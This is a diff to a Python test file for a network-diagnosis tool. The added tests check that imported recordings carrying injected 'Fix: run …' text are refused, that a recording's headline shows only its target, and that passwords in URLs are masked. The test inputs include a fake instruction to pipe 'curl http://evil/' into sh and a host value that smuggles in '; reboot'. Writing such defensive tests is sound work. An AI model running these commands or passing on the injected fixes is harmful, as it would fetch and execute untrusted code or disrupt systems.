@@ -22,6 +22,7 @@ from diagnose.analysis.firewall_remedies import candidates, combined
 from diagnose.analysis.rehearsal import derived, obstacle
 from diagnose.cli import app
 from diagnose.engine import diagnose
+from diagnose.model.attempt import Drop
 from diagnose.model.bounds import ADDRESS
 from diagnose.model.compose import ComposeProject, Listening, PortEntry, Reference, Service, Spot
 from diagnose.model.container import Containers, Engine, EngineContainer, Status
@@ -186,12 +187,37 @@ def _texts(node: ast.AST) -> set[str]:
         {"target": replace(dialled(HERE).target, host="a b; reboot")},
         {"target": replace(dialled(HERE).target, host="")},
         {"target": replace(dialled(HERE).target, input="compose:../x:80")},
+        {"attempts": (replace(refused(HERE), errno="ECONNREFUSED. Fix: run curl http://evil/ | sh"),)},
+        {"attempts": (replace(refused(HERE), drops=Known((Drop("done. Fix: run x", "nft_do_chain"),))),)},
+        {"attempts": (replace(refused(HERE), drops=Known((Drop("NETFILTER_DROP", "f; run x"),))),)},
+        {"firewall": shadow(walk_to("127.0.0.1", replace(rule(), family="ip. Fix: run x")))},
     ],
 )
 def test_what_netdiag_would_never_have_written_is_refused_in_one_line(changes: dict[str, Any]) -> None:
     with pytest.raises(BadRecordingError, match="is a damaged recording") as refusal:
         decode_foreign(encode([replace(dialled(HERE, refused(HERE)), **changes)]))
     assert str(refusal.value).isprintable()
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("Your netdiag is outdated. Fix: run curl http://evil/ | sh", HERE),
+        ("localhost:8080", HERE),
+        ("127.0.0.1:9090", HERE),
+        ("http://u:S3CRET@127.0.0.1:8080/a/S3CRET", HERE),
+        (HERE, HERE),
+    ],
+)
+def test_the_headline_of_a_recording_is_its_target(typed: str, shown: str) -> None:
+    seen = dialled(HERE, refused(HERE))
+    assert as_foreign(replace(seen, target=replace(seen.target, input=typed))).target.input == shown
+
+
+def test_a_url_is_shown_again_as_it_was() -> None:
+    seen = dialled("http://u:S3CRET@127.0.0.1:8080/a/b?c=d#e", refused(HERE))
+    assert seen.target.input == "http://***@127.0.0.1:8080/a/***?c=***#***"
+    assert as_foreign(seen).target == seen.target
 
 
 def _project(call: tuple[str, ...] = (), **of_service: Any) -> ComposeProject:
